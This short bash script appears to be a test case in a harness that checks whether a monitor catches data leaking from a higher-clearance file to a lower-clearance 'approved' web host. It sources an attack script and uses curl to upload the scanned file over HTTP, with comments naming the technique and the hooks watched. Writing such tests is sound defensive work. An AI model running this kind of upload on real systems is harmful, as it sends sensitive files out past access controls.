#!/usr/bin/env bash
# technique: a master goes to an approved web site, whose ceiling is lower
# hooks: file_open (of the scan), socket_connect
# sink: approved-http
# innocent: 600

. attack.sh
timeout 8 curl -sS -m 6 -o /dev/null -T "$SCAN" "http://$APPROVED_HOST:$PORT_HTTP/$here.tif"
